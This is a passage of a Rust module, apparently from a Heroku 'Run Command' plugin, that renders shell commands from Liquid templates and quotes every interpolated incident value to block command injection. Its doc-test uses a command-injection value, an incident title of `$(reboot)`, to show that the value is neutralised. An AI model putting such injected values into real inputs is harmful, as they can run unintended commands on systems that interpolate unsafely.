//! Renders the shell command of a "Run Command on Heroku" action from a Liquid template and an
//! incident, so that no incident value can change the shape of the command.
//!
//! # Rules a template author can rely on
//!
//! - Every value an output tag writes (`{{ incident.title }}`, also `{{- ... -}}`) is quoted as
//!   one POSIX shell word, after the tag's own filters ran: `it's` becomes `'it'\''s'`, numbers
//!   and booleans are quoted too, an array is quoted as the one text Liquid renders for it (use
//!   `| join: " "` to choose the separator). A value with a NUL byte is refused.
//! - A quoted value must stand where the shell starts reading a word, or it would not be
//!   protected: an output tag inside the author's own `"..."` or `'...'`, after `\` or `$`, in
//!   a `#` comment or after `<<` is refused, and so is a template whose quotes are still open
//!   at a tag (what the tag renders would change how the shell reads what follows). Words join
//!   as usual: `--title={{ incident.title }}` and `"Incident "{{ incident.id }}" is down"` work.
//! - `| raw` as the last filter of an output tag inserts the value verbatim, anywhere. It is
//!   the one way to let a value change the command, for values the author trusts.
//! - The author's own text, and `{% raw %}` blocks, are copied as written. Rendered text is
//!   never parsed again, so a title holding `{{ ... }}` comes out as those characters.
//! - A variable the incident does not have, or has as null, is an error naming it. Give it a
//!   fallback with `| default: '...'` on an output tag or in an `assign`.
//! - Errors never quote the incident's values or list its keys: they name only what the
//!   template itself wrote.
//! - Tags: `assign`, `capture`, `case`, `comment`, `for`, `break`, `continue`, `if`, `unless`,
//!   `ifchanged`, `raw`, `increment`, `decrement`. The others are refused: `cycle` would write
//!   values unquoted, `tablerow` writes HTML (`<tr>` is a redirection to a shell), and there are
//!   no partials to `include` or `render`.
//! - Output inside `{% capture %}` is quoted when captured, so write the captured text with
//!   `{{ name | raw }}`; `{{ name }}` would quote the quotes.
//!
//! Even safer than quoting is not to interpolate at all: [`environment`] gives the incident as
//! environment variables for the dyno, and the command can use `"$INCIDENT_TITLE"`.
//!
//! # How the quoting is enforced
//!
//! Liquid has no hook around output tags, so the template source is rewritten before it is
//! parsed: every output tag gets one more filter at its end, which quotes (or, after `raw`,
//! checks) the value. To find the output tags exactly where Liquid finds them, the source is
//! split by Liquid's own tokenizer (a block that collects the tokens it is given), not by a
//! scanner of our own that could disagree about quotes, `}}` inside strings or invalid tags.
//! Tokens inside `{% raw %}` blocks are left alone, as Liquid's raw block leaves them. Comment
//! blocks are rewritten and checked like the rest (their tags and filters must be allowed, their
//! blocks must nest and their quotes must close): Liquid never renders them, but it parses the
//! tags inside them, so where a comment ends cannot be known without parsing it as Liquid does.
//!
//! ```
//! use heroku_plugin::template::render;
//!
//! let incident = serde_json::json!({"incident": {"id": "INC-7", "title": "$(reboot)"}});
//! let rendered = render("./bin/page {{ incident.id }} {{ incident.title }}", &incident);
//! assert_eq!(rendered.unwrap().command, "./bin/page 'INC-7' '$(reboot)'");
//! ```

use std::io::{self, Write};
use std::sync::{Arc, Mutex};

use liquid::reflection::ParserReflection;
use liquid_core::parser::{BlockElement, TagBlock, TagTokenIter};
use liquid_core::{
    BlockReflection, Display_filter, Expression, Filter, FilterParameters, FilterReflection,
    FromFilterParameters, Language, ParseBlock, ParseFilter, Renderable, Result as LiquidResult,
    Runtime, Value as LiquidValue, ValueView,
};
use serde_json::{Map, Value};

/// The longest template accepted, in bytes. A command line is short; the limit keeps parsing
/// cheap inside the component.
pub const MAX_TEMPLATE_BYTES: usize = 16 * 1024;

/// The longest command a render may produce, in bytes. Rendering stops as soon as the output
/// passes it, so a loop cannot grow the command without bound.
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;

/// How deeply `[` may nest in a template. Liquid's parser recurses once per level and, inside
/// the component, has no guard against running out of stack; real templates nest one or two.
pub const MAX_NESTING: usize = 32;

/// The most environment variables [`environment`] returns.
pub const MAX_ENVIRONMENT_VARIABLES: usize = 64;

/// The longest value [`environment`] returns, in bytes; longer values are cut at the last
/// character boundary before it.
pub const MAX_ENVIRONMENT_VALUE_BYTES: usize = 4096;

/// How many levels of nested objects under `incident` [`environment`] flattens.
const MAX_ENVIRONMENT_DEPTH: usize = 4;

/// The start of every name this module adds to a template. A template may not use it, so a
/// template can neither call the internal filters nor close the tokenizer block early.
const RESERVED_PREFIX: &str = "pulse_template_";
const TOKENS_TAG: &str = "pulse_template_tokens";
const TOKENS_END_TAG: &str = "endpulse_template_tokens";
const QUOTE_FILTER: &str = "pulse_template_quote";
const VERBATIM_FILTER: &str = "pulse_template_verbatim";

/// How the internal filters start their error messages, followed by the output's number and
/// the kind of failure; `render` turns such errors into [`TemplateError`]s.
const OUTPUT_FAILURE: &str = "pulse_template_output";

/// The tags a command template may use, closing and inner tags included.
const ALLOWED_TAGS: &[&str] = &[
    "assign",
    "break",
    "capture",
    "case",
    "comment",
    "continue",
    "decrement",
    "else",
    "elsif",
    "endcapture",
    "endcase",
    "endcomment",
    "endfor",
    "endif",
    "endifchanged",
    "endraw",
    "endunless",
    "for",
    "if",
    "ifchanged",
    "increment",
    "raw",
    "unless",
    "when",
];

/// The blocks a template may open, each with the tag that closes it.
const BLOCKS: &[(&str, &str)] = &[
    ("capture", "endcapture"),
    ("case", "endcase"),
    ("comment", "endcomment"),
    ("for", "endfor"),
    ("if", "endif"),
    ("ifchanged", "endifchanged"),
    ("raw", "endraw"),
    ("unless", "endunless"),
];

/// A command rendered from a template.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    /// The shell command, with every interpolated value quoted as one word.
    pub command: String,
}

/// Why a template could not be rendered.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum TemplateError {
    /// The template is longer than [`MAX_TEMPLATE_BYTES`]; holds its length.
    #[error("the template is {0} bytes long, over the limit of {MAX_TEMPLATE_BYTES}: shorten it")]
    TemplateTooLong(usize),
    /// The template is not valid Liquid, or uses something command templates do not allow.
    #[error("the template is not valid: {0}")]
    Syntax(String),
    /// The template uses a variable that the incident context does not have, or has as null;
    /// holds the variable as the template wrote it.
    #[error(
        "the template uses {0}, which the incident context does not have: fix the name or give \
         it a fallback with `| default: '...'`"
    )]
    MissingVariable(String),
    /// An output tag whose filters produced null; holds the tag's expression and its line.
    #[error(
        "the output `{{{{ {expression} }}}}` on line {line} has no value: give it a fallback \
         with `| default: '...'`"
    )]
    NoValue { expression: String, line: usize },
    /// A value, or the template, contains a NUL byte; holds what contained it.
    #[error("{0} contains a NUL byte, which a shell command cannot carry")]
    Nul(String),
    /// The rendered command would be longer than [`MAX_COMMAND_BYTES`].
    #[error("the rendered command is over the limit of {MAX_COMMAND_BYTES} bytes: shorten it")]
    CommandTooLong,
    /// The incident context is not a JSON object.
    #[error("the incident context is not a JSON object")]
    Context,
    /// Rendering failed for another reason, described without the incident's values.
    #[error("the template could not be rendered: {0}")]
    Render(String),
}

/// Quotes `value` as one POSIX shell word: single quotes around it, each `'` inside written as
/// `'\''`. Refuses a NUL byte, which no shell word can hold.
///
/// Every value comes out in this one form, even a word that needs no quotes, so a reader of a
/// command (or of a test) can tell interpolated values from the author's text at a glance; this
/// is why the function is ours rather than `shlex`'s, which leaves safe words bare and switches
/// to double quotes around a `'`.
pub fn shell_quote(value: &str) -> Result<String, TemplateError> {
    if value.contains('\0') {
        return Err(TemplateError::Nul("the value".to_owned()));
    }
    Ok(quote(value))
}

/// Checks that `template` can be rendered at all (valid Liquid, allowed tags, known filters),
/// without an incident: the check to run when an action is saved.
pub fn check(template: &str) -> Result<(), TemplateError> {
    prepare(template).map(|_| ())
}

/// Renders `template` with `context` (an object such as `{"incident": {"id": ...}}`) into a
/// shell command; see the module documentation for the rules.
pub fn render(template: &str, context: &Value) -> Result<Rendered, TemplateError> {
    let prepared = prepare(template)?;

    let context = with_nulls_at(context, &prepared.rewrite.defaulted);
    let globals = liquid::to_object(&context).map_err(|_| TemplateError::Context)?;

    let mut writer = BoundedWriter::default();
    if let Err(err) = prepared.template.render_to(&mut writer, &globals) {
        if writer.overflowed {
            return Err(TemplateError::CommandTooLong);
        }
        return Err(render_error(&err, &prepared.rewrite));
    }
    let command = String::from_utf8(writer.buffer)
        .map_err(|_| TemplateError::Render("the output is not UTF-8".to_owned()))?;
    Ok(Rendered { command })
}

/// The incident as environment variables for the dyno: each scalar under `incident` becomes
/// `INCIDENT_<KEY>`, the key upper-cased with every other character than `A-Z` and `0-9` as
/// `_`. Arrays of scalars are joined with `,`; objects are flattened with `_`, up to four
/// levels. Nulls, arrays holding objects or arrays, and values with a NUL byte are left out.
///
/// Sorted by name. When two keys make one name, the first in the incident's key order wins.
/// At most [`MAX_ENVIRONMENT_VARIABLES`] variables (the first by name), each value at most
/// [`MAX_ENVIRONMENT_VALUE_BYTES`] long.
pub fn environment(context: &Value) -> Vec<(String, String)> {
    let Some(incident) = context.get("incident").and_then(Value::as_object) else {
        return Vec::new();
    };

    let mut variables = Vec::new();
    flatten_into(&mut variables, "INCIDENT", incident, 1);

    // A stable sort keeps colliding names in key order, so `dedup` keeps the first.
    variables.sort_by(|a, b| a.0.cmp(&b.0));
    variables.dedup_by(|later, earlier| later.0 == earlier.0);
    variables.truncate(MAX_ENVIRONMENT_VARIABLES);
    variables
}

fn flatten_into(
    out: &mut Vec<(String, String)>,
    prefix: &str,
    object: &Map<String, Value>,
    depth: usize,
) {
    for (key, value) in object {
        if key.is_empty() {
            continue;
        }
        let name = format!("{prefix}_{}", environment_name(key));
        let text = match value {
            Value::Object(inner) => {
                if depth < MAX_ENVIRONMENT_DEPTH {
                    flatten_into(out, &name, inner, depth + 1);
                }
                continue;
            }
            Value::Array(items) => joined_scalars(items),
            scalar => scalar_text(scalar),
        };
        if let Some(text) = text.filter(|text| !text.contains('\0')) {
            out.push((name, truncated(text, MAX_ENVIRONMENT_VALUE_BYTES)));
        }
    }
}

fn environment_name(key: &str) -> String {
    key.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect()
}

fn scalar_text(value: &Value) -> Option<String> {
    match value {
        Value::String(text) => Some(text.clone()),
        Value::Number(number) => Some(number.to_string()),
        Value::Bool(flag) => Some(flag.to_string()),
        _ => None,
    }
}

fn joined_scalars(items: &[Value]) -> Option<String> {
    let texts: Option<Vec<String>> = items.iter().map(scalar_text).collect();
    texts.map(|texts| texts.join(","))
}

fn truncated(mut text: String, limit: usize) -> String {
    if text.len() > limit {
        let mut end = limit;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        text.truncate(end);
    }
    text
}

fn quote(value: &str) -> String {
    let mut quoted = String::with_capacity(value.len() + 2);
    quoted.push('\'');
    for c in value.chars() {
        if c == '\'' {
            quoted.push_str("'\\''");
        } else {
            quoted.push(c);
        }
    }
    quoted.push('\'');
    quoted
}

/// A template ready to render, with what the rewrite learned about it.
struct Prepared {
    template: liquid::Template,
    rewrite: Rewrite,
}

fn prepare(template: &str) -> Result<Prepared, TemplateError> {
    if template.len() > MAX_TEMPLATE_BYTES {
        return Err(TemplateError::TemplateTooLong(template.len()));
    }
    if template.contains('\0') {
        return Err(TemplateError::Nul("the template".to_owned()));
    }
    if template.contains(RESERVED_PREFIX) {
        return Err(TemplateError::Syntax(format!(
            "names starting with `{RESERVED_PREFIX}` are reserved for the template engine"
        )));
    }
    if nesting_depth(template) > MAX_NESTING {
        return Err(TemplateError::Syntax(format!(
            "`[` nests more than {MAX_NESTING} levels deep"
        )));
    }

    let parser = liquid::ParserBuilder::with_stdlib()
        .filter(Raw)
        .filter(QuoteOutput)
        .filter(VerbatimOutput)
        .build()
        .map_err(|_| TemplateError::Render("the Liquid parser could not be built".to_owned()))?;

    let pieces = tokenize(template)?;
    let known_filter = |name: &str| parser.filters().any(|filter| filter.name() == name);
    let rewrite = rewrite(&pieces, &known_filter)?;
    let template = parser
        .parse(&rewrite.source)
        .map_err(|err| syntax_error(&err))?;
    Ok(Prepared { template, rewrite })
}

/// The deepest nesting of `[` anywhere in `template`, strings and text included: counting
/// everywhere overestimates, which only makes the limit stricter.
fn nesting_depth(template: &str) -> usize {
    let mut depth = 0usize;
    let mut deepest = 0;
    for byte in template.bytes() {
        match byte {
            b'[' => {
                depth += 1;
                deepest = deepest.max(depth);
            }
            b']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    deepest
}

/// One token of a template, as Liquid's tokenizer cut it.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Piece {
    /// Text outside tags, and text Liquid could not read as a tag (which the real parse will
    /// report, with its line).
    Text(String),
    /// An output tag, `{{ ... }}`, with any whitespace its `-` trims.
    Output(String),
    /// A tag, `{% name ... %}`; `bare` when it has nothing after its name.
    Tag {
        name: String,
        bare: bool,
        text: String,
    },
}

impl Piece {
    fn text(&self) -> &str {
        match self {
            Piece::Text(text) | Piece::Output(text) | Piece::Tag { text, .. } => text,
        }
    }
}

/// Splits `template` into Liquid's own tokens, by parsing it wrapped in a block that records
/// every token it is handed instead of parsing it.
fn tokenize(template: &str) -> Result<Vec<Piece>, TemplateError> {
    let recorder = TokenRecorder::default();
    let mut language = Language::empty();
    language
        .blocks
        .register(TOKENS_TAG.to_owned(), Box::new(recorder.clone()));

    let wrapped = format!("{{% {TOKENS_TAG} %}}{template}{{% {TOKENS_END_TAG} %}}");
    let parsed = liquid_core::parser::parse(&wrapped, &language);
    let pieces = std::mem::take(&mut *recorder.pieces.lock().unwrap_or_else(|e| e.into_inner()));

    // The tokens must add up to the template exactly, or some of it would escape the rewrite.
    let covered: usize = pieces.iter().map(|piece| piece.text().len()).sum();
    if parsed.is_err() || covered != template.len() {
        return Err(TemplateError::Syntax(
            "the template could not be split into tags".to_owned(),
        ));
    }
    Ok(pieces)
}

#[derive(Clone, Default)]
struct TokenRecorder {
    pieces: Arc<Mutex<Vec<Piece>>>,
}

impl BlockReflection for TokenRecorder {
    fn start_tag(&self) -> &str {
        TOKENS_TAG
    }

    fn end_tag(&self) -> &str {
        TOKENS_END_TAG
    }

    fn description(&self) -> &str {
        "Records the tokens of the template it wraps."
    }
}

impl ParseBlock for TokenRecorder {
    fn parse(
        &self,
        _arguments: TagTokenIter<'_>,
        mut block: TagBlock<'_, '_>,
        _options: &Language,
    ) -> LiquidResult<Box<dyn Renderable>> {
        let mut pieces = Vec::new();
        while let Some(element) = block.next()? {
            pieces.push(match element {
                BlockElement::Raw(raw) => Piece::Text(raw.as_str().to_owned()),
                BlockElement::Invalid(invalid) => Piece::Text(invalid.as_str().to_owned()),
                BlockElement::Expression(expression) => {
                    Piece::Output(expression.as_str().to_owned())
                }
                BlockElement::Tag(mut tag) => Piece::Tag {
                    bare: tag.tokens().next().is_none(),
                    name: tag.name().to_owned(),
                    text: tag.as_str().to_owned(),
                },
            });
        }
        block.assert_empty();
        *self.pieces.lock().unwrap_or_else(|e| e.into_inner()) = pieces;
        Ok(Box::new(Nothing))
    }

    fn reflection(&self) -> &dyn BlockReflection {
        self
    }
}

#[derive(Debug)]
struct Nothing;

impl Renderable for Nothing {
    fn render_to(&self, _writer: &mut dyn Write, _runtime: &dyn Runtime) -> LiquidResult<()> {
        Ok(())
    }
}

/// The template with a guard filter on every output tag, and what the rewrite found on the
/// way.
#[derive(Debug, Default)]
struct Rewrite {
    source: String,
    /// The output tags, indexed by the number their guard filter carries.
    outputs: Vec<OutputTag>,
    /// Variables read through a chain that uses `default`, to be null rather than missing.
    defaulted: Vec<Path>,
    /// Every variable the template mentions: error messages name only these.
    mentioned: Vec<Path>,
}

#[derive(Debug)]
struct OutputTag {
    /// The expression between the braces, as the author wrote it.
    expression: String,
    line: usize,
    /// The variable the expression starts from, when it is a plain path.
    entry: Option<Path>,
    /// Whether the author's filters (other than a final `raw`) transform the value.
    filtered: bool,
}

fn rewrite(
    pieces: &[Piece],
    known_filter: &dyn Fn(&str) -> bool,
) -> Result<Rewrite, TemplateError> {
    let mut rewrite = Rewrite::default();
    let mut line = 1;
    let mut in_raw = false;
    let mut open = Vec::new();
    let mut shell = Shell::default();
    for piece in pieces {
        match piece {
            Piece::Text(text) => {
                shell.read(text);
                rewrite.source.push_str(text);
            }
            Piece::Output(text) if in_raw => {
                shell.read(text);
                rewrite.source.push_str(text);
            }
            // Liquid's raw block ends at the first bare `endraw`, and only there.
            Piece::Tag { name, bare, text } if in_raw => {
                if name == "endraw" && *bare {
                    in_raw = false;
                    open.pop();
                    shell.reach_tag(name, line)?;
                } else {
                    shell.read(text);
                }
                rewrite.source.push_str(text);
            }
            Piece::Output(text) => {
                let line = line + text[..text.find("{{").unwrap_or(0)].matches('\n').count();
                let verbatim = rewrite_output(&mut rewrite, text, line, known_filter)?;
                shell.write_value(verbatim).map_err(|reason| {
                    let expression = rewrite.outputs.last().map_or("", |o| &o.expression);
                    TemplateError::Syntax(format!(
                        "line {line}: the output `{{{{ {expression} }}}}` {reason}: write it as a \
                         word of its own, outside quotes; its value is quoted for you"
                    ))
                })?;
            }
            Piece::Tag { name, bare, text } => {
                let line = line + text[..text.find("{%").unwrap_or(0)].matches('\n').count();
                check_tag(name, *bare, line)?;
                nest(&mut open, name, line)?;
                shell.reach_tag(name, line)?;
                in_raw = name == "raw";
                read_tag(&mut rewrite, name, text, line, known_filter)?;
                rewrite.source.push_str(text);
            }
        }
        line += piece.text().matches('\n').count();
    }
    if let Some((start, end, line)) = open.pop() {
        return Err(TemplateError::Syntax(format!(
            "line {line}: `{start}` is never closed with `{end}`"
        )));
    }
    Ok(rewrite)
}

/// Keeps `open` as the stack of blocks open at tag `name`: each block must be closed, and
/// closed after the blocks opened inside it.
///
/// Besides a clear message, this keeps Liquid from panicking: in 0.26 a block inside a
/// `{% comment %}` that runs to the end of the template makes the comment read past the end
/// (it ignores the block's error), and a panic traps the component. When every block is
/// closed in order, no block can run to the end.
fn nest(
    open: &mut Vec<(&'static str, &'static str, usize)>,
    name: &str,
    line: usize,
) -> Result<(), TemplateError> {
    if let Some(&(start, end)) = BLOCKS.iter().find(|(start, _)| *start == name) {
        open.push((start, end, line));
        return Ok(());
    }
    let Some(&(start, _)) = BLOCKS.iter().find(|(_, end)| *end == name) else {
        return Ok(());
    };
    let refusal = match open.pop() {
        Some((opened, _, _)) if opened == start => return Ok(()),
        Some((opened, _, opened_line)) => format!(
            "`{name}` closes `{start}`, but the innermost open block is `{opened}` from line \
             {opened_line}"
        ),
        None => format!("`{name}` has no open `{start}` to close"),
    };
    Err(TemplateError::Syntax(format!("line {line}: {refusal}")))
}

/// How the shell will read the author's text at the current point of the template, as far as
/// quoting goes. A quoted value is one inert word only where a word can start: inside `"..."`
/// the shell still expands `$(...)` in it, inside `'...'` its quotes end the author's, and a
/// newline in it ends a `#` comment. The author's text is all literal, so its quoting state
/// can be followed through the template; at a tag it must be plain, so that which branch or
/// how many loop turns render cannot change it.
///
/// Limitation: this models POSIX sh quoting plus bash's `$'...'`, which is what a dyno runs;
/// it errs towards refusing, so `<<` is taken for a here-document even in `$(( 1 << 2 ))`.
#[derive(Debug)]
struct Shell {
    quoting: Quoting,
    /// The last character read while not quoted; a `$` or `<` changes what follows.
    last: Option<char>,
    /// Whether a word would start here, where `#` starts a comment.
    word_start: bool,
}

impl Default for Shell {
    fn default() -> Self {
        // The command starts with a word: a `#` right at the start is a comment.
        Shell {
            quoting: Quoting::Plain,
            last: None,
            word_start: true,
        }
    }
}

#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum Quoting {
    #[default]
    Plain,
    /// After a `\` outside quotes.
    Escape,
    Single,
    Double,
    /// After a `\` inside double quotes.
    DoubleEscape,
    /// Inside bash's `$'...'`, where `\'` does not end the string.
    AnsiC,
    AnsiCEscape,
    Comment,
    /// After `<<`: the rest of the template may be a here-document body, where the shell
    /// expands `$(...)` whatever the quotes.
    HereDocument,
}

impl Shell {
    fn read(&mut self, text: &str) {
        for c in text.chars() {
            self.quoting = match (self.quoting, c) {
                (Quoting::Plain, _) => {
                    let next = match c {
                        '\'' if self.last == Some('$') => Quoting::AnsiC,
                        '\'' => Quoting::Single,
                        '"' => Quoting::Double,
                        '\\' => Quoting::Escape,
                        '#' if self.word_start => Quoting::Comment,
                        '<' if self.last == Some('<') => Quoting::HereDocument,
                        _ => Quoting::Plain,
                    };
                    self.last = Some(c);
                    self.word_start = c.is_whitespace() || ";&|()<>".contains(c);
                    next
                }
                (Quoting::Escape, _) | (Quoting::Single, '\'') | (Quoting::Double, '"') => {
                    self.closed(c)
                }
                (Quoting::AnsiC, '\'') => self.closed(c),
                (Quoting::Double, '\\') => Quoting::DoubleEscape,
                (Quoting::DoubleEscape, _) => Quoting::Double,
                (Quoting::AnsiC, '\\') => Quoting::AnsiCEscape,
                (Quoting::AnsiCEscape, _) => Quoting::AnsiC,
                (Quoting::Comment, '\n') => {
                    self.word_start = true;
                    Quoting::Plain
                }
                (quoting, _) => quoting,
            };
        }
    }

    /// Back to plain text after `c` closed a quote or an escape.
    fn closed(&mut self, c: char) -> Quoting {
        self.last = Some(c);
        self.word_start = false;
        Quoting::Plain
    }

    /// Accounts for an output tag's value, or says why it cannot go here. A verbatim value
    /// goes anywhere (the author vouches for it), and its effect on the quoting is unknown.
    fn write_value(&mut self, verbatim: bool) -> Result<(), &'static str> {
        if verbatim {
            self.word_start = true;
            return Ok(());
        }
        let reason = match self.quoting {
            Quoting::Plain if self.last == Some('$') => {
                "follows a `$`, which would make its value a `$'...'` string"
            }
            Quoting::Plain => {
                self.last = Some('\'');
                self.word_start = false;
                return Ok(());
            }
            Quoting::Escape => "follows a `\\`, which would escape its opening quote",
            Quoting::Single => "is inside single quotes, which its own quotes would end",
            Quoting::Double | Quoting::DoubleEscape => {
                "is inside double quotes, where the shell would still expand `$(...)` in it"
            }
            Quoting::AnsiC | Quoting::AnsiCEscape => {
                "is inside `$'...'`, which its own quotes would end"
            }
            Quoting::Comment => "is in a shell comment, which a newline in its value would end",
            Quoting::HereDocument => {
                "follows a `<<` here-document, where the shell would expand `$(...)` in it"
            }
        };
        Err(reason)
    }

    /// Checks that the quoting is plain at tag `name`. Text the tag renders may come between
    /// what was read so far and what follows, so a word may start after it.
    fn reach_tag(&mut self, name: &str, line: usize) -> Result<(), TemplateError> {
        match self.quoting {
            Quoting::Plain | Quoting::HereDocument => {
                self.word_start = true;
                Ok(())
            }
            _ => Err(TemplateError::Syntax(format!(
                "line {line}: a quote, escape or shell comment is still open at the tag `{name}`: \
                 close it before the tag, so that how the shell reads what follows does not \
                 depend on what the tag renders"
            ))),
        }
    }
}

fn check_tag(name: &str, bare: bool, line: usize) -> Result<(), TemplateError> {
    let refusal = match name {
        "raw" if !bare => "`raw` takes no arguments".to_owned(),
        "cycle" => "the tag `cycle` is not available: it writes values unquoted".to_owned(),
        "tablerow" => "the tag `tablerow` is not available: it writes HTML".to_owned(),
        "include" | "render" => format!("the tag `{name}` is not available: there are no partials"),
        _ if ALLOWED_TAGS.contains(&name) => return Ok(()),
        _ => format!("there is no tag `{name}`"),
    };
    Err(TemplateError::Syntax(format!("line {line}: {refusal}")))
}

/// Adds the guard filter to one output tag; says whether the tag is verbatim (ends in `raw`).
fn rewrite_output(
    rewrite: &mut Rewrite,
    text: &str,
    line: usize,
    known_filter: &dyn Fn(&str) -> bool,
) -> Result<bool, TemplateError> {
    let (start, end) = inner_bounds(text, "{{", "}}");
    let expression = &text[start..end];
    let chain = Chain::read(expression);
    chain.check_filters(line, known_filter)?;
    rewrite.mentioned.extend(mentioned_paths(expression));
    if chain.uses_default() {
        rewrite.defaulted.extend(chain.entry.clone());
    }

    let verbatim = chain.filters.last() == Some(&"raw");
    let author_filters = chain.filters.len() - usize::from(verbatim);
    let guard = if verbatim {
        VERBATIM_FILTER
    } else {
        QUOTE_FILTER
    };
    let index = rewrite.outputs.len();
    rewrite.outputs.push(OutputTag {
        expression: expression.trim().to_owned(),
        line,
        entry: chain.entry,
        filtered: author_filters > 0,
    });

    // The guard goes last, after the author's filters, so it sees the final value.
    rewrite.source.push_str(&text[..end]);
    rewrite.source.push_str(&format!(" | {guard}: {index} "));
    rewrite.source.push_str(&text[end..]);
    Ok(verbatim)
}

fn read_tag(
    rewrite: &mut Rewrite,
    name: &str,
    text: &str,
    line: usize,
    known_filter: &dyn Fn(&str) -> bool,
) -> Result<(), TemplateError> {
    let (start, end) = inner_bounds(text, "{%", "%}");
    let inner = &text[start..end];
    rewrite.mentioned.extend(mentioned_paths(inner));
    if name != "assign" {
        return Ok(());
    }

    // `assign name = chain`: the chain may use `default` like an output tag.
    let Some(equals) = top_level_positions(inner, b'=').next() else {
        return Ok(());
    };
    let chain = Chain::read(&inner[equals + 1..]);
    chain.check_filters(line, known_filter)?;
    if chain.uses_default() {
        rewrite.defaulted.extend(chain.entry);
    }
    Ok(())
}

/// Where the inside of a tag starts and ends in its token: after `open` and an optional `-`,
/// before an optional `-` and `close`. Liquid's tokens may carry whitespace a `-` trims.
fn inner_bounds(text: &str, open: &str, close: &str) -> (usize, usize) {
    let mut start = text.find(open).map_or(0, |at| at + open.len());
    if text[start..].starts_with('-') {
        start += 1;
    }
    let mut end = text.trim_end().len().saturating_sub(close.len()).max(start);
    // Liquid's names cannot end in `-` before a closing brace, so a `-` here trims.
    if end > start && text[..end].ends_with('-') {
        end -= 1;
    }
    (start, end)
}

/// A filter chain, `entry | filter: args | ...`, read only as far as the rewrite needs.
struct Chain<'a> {
    entry: Option<Path>,
    filters: Vec<&'a str>,
}

impl<'a> Chain<'a> {
    fn read(chain: &'a str) -> Self {
        let mut cuts = vec![0];
        cuts.extend(top_level_positions(chain, b'|').map(|at| at + 1));
        let segment = |i: usize| {
            let end = cuts.get(i + 1).map_or(chain.len(), |next| next - 1);
            &chain[cuts[i]..end]
        };
        let entry = Path::whole(segment(0).trim());
        let filters = (1..cuts.len())
            .map(|i| {
                let filter = segment(i).trim_start();
                &filter[..identifier_len(filter).unwrap_or(0)]
            })
            .collect();
        Chain { entry, filters }
    }

    fn uses_default(&self) -> bool {
        self.filters.contains(&"default")
    }

    fn check_filters(
        &self,
        line: usize,
        known: &dyn Fn(&str) -> bool,
    ) -> Result<(), TemplateError> {
        match self.filters.iter().find(|name| !known(name)) {
            Some(name) => Err(TemplateError::Syntax(format!(
                "line {line}: the filter `{name}` does not exist"
            ))),
            None => Ok(()),
        }
    }
}

/// Byte positions of `wanted` in `text` outside quoted strings. Liquid's strings have no
/// escapes, so a quote always ends at the next quote of the same kind.
fn top_level_positions(text: &str, wanted: u8) -> impl Iterator<Item = usize> + '_ {
    let mut quote = None;
    text.bytes().enumerate().filter_map(move |(at, byte)| {
        match (quote, byte) {
            (Some(open), _) if byte == open => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(byte),
            (None, _) if byte == wanted => return Some(at),
            (None, _) => {}
        }
        None
    })
}

/// A variable as a template names it: `incident.services[0]`, `incident["title"]`.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Path {
    segments: Vec<Segment>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Segment {
    Key(String),
    Index(i64),
}

impl Segment {
    /// The segment as Liquid writes it in its errors.
    fn rendered(&self) -> String {
        match self {
            Segment::Key(key) => key.clone(),
            Segment::Index(index) => index.to_string(),
        }
    }
}

impl Path {
    /// `text` as a path, when all of it is one; `nil`, `true` and the like are literals.
    fn whole(text: &str) -> Option<Path> {
        const LITERALS: &[&str] = &["nil", "null", "empty", "blank", "true", "false"];
        let (path, len) = Path::lex(text)?;
        let literal =
            matches!(&path.segments[..], [Segment::Key(key)] if LITERALS.contains(&key.as_str()));
        (len == text.len() && !literal).then_some(path)
    }

    /// Reads the path at the start of `text`, returning it and the bytes it took. Stops at the
    /// first index that is not a literal, such as `incident[key]`.
    fn lex(text: &str) -> Option<(Path, usize)> {
        let bytes = text.as_bytes();
        let mut at = identifier_len(text)?;
        let mut segments = vec![Segment::Key(text[..at].to_owned())];
        loop {
            match bytes.get(at) {
                Some(b'.') => {
                    let Some(len) = identifier_len(&text[at + 1..]) else {
                        break;
                    };
                    segments.push(Segment::Key(text[at + 1..at + 1 + len].to_owned()));
                    at += 1 + len;
                }
                Some(b'[') => {
                    let Some((segment, len)) = Path::lex_index(&text[at..]) else {
                        break;
                    };
                    segments.push(segment);
                    at += len;
                }
                _ => break,
            }
        }
        Some((Path { segments }, at))
    }

    /// Reads `[ 'key' ]` or `[ 3 ]` at the start of `text`.
    fn lex_index(text: &str) -> Option<(Segment, usize)> {
        let bytes = text.as_bytes();
        let skip_space = |mut at: usize| {
            while matches!(bytes.get(at), Some(b' ' | b'\n' | b'\r')) {
                at += 1;
            }
            at
        };
        let start = skip_space(1);
        let (segment, end) = match bytes.get(start)? {
            quote @ (b'\'' | b'"') => {
                let close = start + 1 + text[start + 1..].find(char::from(*quote))?;
                (Segment::Key(text[start + 1..close].to_owned()), close + 1)
            }
            b'-' | b'0'..=b'9' => {
                let digits = text[start + 1..]
                    .bytes()
                    .take_while(u8::is_ascii_digit)
                    .count();
                let end = start + 1 + digits;
                (Segment::Index(text[start..end].parse().ok()?), end)
            }
            _ => return None,
        };
        let end = skip_space(end);
        (bytes.get(end) == Some(&b']')).then_some((segment, end + 1))
    }

    /// The first `len` segments joined as Liquid joins them in its errors.
    fn rendered_prefix(&self, len: usize) -> String {
        let parts: Vec<String> = self.segments[..len].iter().map(Segment::rendered).collect();
        parts.join(".")
    }

    /// The first `len` segments as a template would write them.
    fn display_prefix(&self, len: usize) -> String {
        let mut shown = String::new();
        for segment in &self.segments[..len] {
            match segment {
                Segment::Key(key) if shown.is_empty() => shown.push_str(key),
                Segment::Key(key) if identifier_len(key) == Some(key.len()) => {
                    shown.push('.');
                    shown.push_str(key);
                }
                Segment::Key(key) if key.contains('"') => shown.push_str(&format!("['{key}']")),
                Segment::Key(key) => shown.push_str(&format!("[\"{key}\"]")),
                Segment::Index(index) => shown.push_str(&format!("[{index}]")),
            }
        }
        shown
    }
}

